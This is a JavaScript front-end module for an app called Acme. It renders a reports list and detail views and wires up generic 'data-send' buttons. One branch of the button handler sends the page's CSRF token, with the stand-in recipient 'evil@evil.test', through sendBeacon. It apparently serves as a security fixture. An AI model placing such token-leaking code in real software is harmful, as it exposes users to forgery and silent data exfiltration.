// SPDX-License-Identifier: MIT
// The part of Acme that runs in the browser: the reports (a list and one report, with the history API) and the
// buttons with data-send, whose label says nothing about what they send.
const csrf = () => document.querySelector('meta[name=csrf]')?.content ?? ''

async function call(method, url, body, headers = {}) {
  const answer = await fetch(url, {
    method,
    headers: { 'X-CSRF-Token': csrf(), ...(body ? { 'Content-Type': 'application/json' } : {}), ...headers },
    body: body ? JSON.stringify(body) : undefined,
  })
  const value = await answer.json()
  if (!answer.ok) throw new Error(value.error ?? answer.statusText)
  return value
}

function node(tag, properties = {}, ...children) {
  const made = Object.assign(document.createElement(tag), properties)
  made.append(...children)
  return made
}

function button(label, text, act) {
  const made = node('button', { type: 'button', className: 'danger', textContent: text })
  made.setAttribute('aria-label', label)
  made.addEventListener('click', act)
  return made
}

async function drawReports(place) {
  const id = location.pathname.match(/^\/reports\/(\d+)$/)?.[1]
  place.setAttribute('aria-busy', 'true')
  try {
    if (id) {
      const r = await call('GET', `/api/reports/${id}`)
      place.replaceChildren(node('h2', { textContent: r.title }), node('p', { textContent: r.body }),
        node('p', { textContent: `${r.rows} rows, by ${r.owner}` }), node('a', { href: '/reports', textContent: 'All reports' }))
    } else {
      const rows = (await call('GET', '/api/reports')).map((r) => node('tr', {},
        node('td', {}, node('a', { href: `/reports/${r.id}`, textContent: r.title })),
        node('td', { textContent: r.owner }),
        node('td', { textContent: r.rows }),
        node('td', {}, button(`Delete report ${r.title}`, 'Delete', async () => {
          await call('DELETE', `/api/reports/${r.id}`)
          await drawReports(place)
        }))))
      const head = node('tr', {}, ...['Title', 'Owner', 'Rows', 'Action'].map((textContent) =>
        node('th', { scope: 'col', textContent })))
      const form = node('form', { className: 'inline' },
        node('label', {}, 'New report ', node('input', { name: 'title', required: true })), node('button', { textContent: 'Add report' }))
      form.addEventListener('submit', async (event) => {
        event.preventDefault()
        await call('POST', '/api/reports', { title: new FormData(form).get('title') })
        await drawReports(place)
      })
      const scroll = node('div', { className: 'scroll', tabIndex: 0 }, node('table', {}, node('thead', {}, head), node('tbody', {}, ...rows)))
      scroll.setAttribute('role', 'region')
      scroll.setAttribute('aria-label', 'Reports')
      place.replaceChildren(scroll, form)
    }
  } catch (error) {
    place.replaceChildren(node('p', { className: 'error', textContent: error.message }))
  }
  place.removeAttribute('aria-busy')
}

const reports = document.querySelector('#reports')
if (reports) {
  drawReports(reports)
  addEventListener('popstate', () => drawReports(reports))
  document.addEventListener('click', (event) => {
    const link = event.target.closest?.('a')
    if (!link || !/^\/reports(\/\d+)?$/.test(link.pathname) || link.origin !== location.origin || event.ctrlKey || event.metaKey) return
    event.preventDefault()
    history.pushState({}, '', link.href)
    drawReports(reports)
  })
}

for (const sender of document.querySelectorAll('[data-send]')) {
  sender.addEventListener('click', async () => {
    const [method, url] = sender.dataset.send.split(' ')
    if ('beacon' in sender.dataset) {
      const body = new URLSearchParams({ csrf: csrf(), to: 'evil@evil.test', subject: 'data' })
      navigator.sendBeacon(url, body)
      return
    }
    const override = sender.dataset.override ? { 'X-HTTP-Method-Override': sender.dataset.override } : {}
    try {
      await call(method, url, undefined, override)
      sender.textContent = 'Saved'
    } catch (error) {
      sender.textContent = error.message
    }
  })
}

export { call, drawReports }
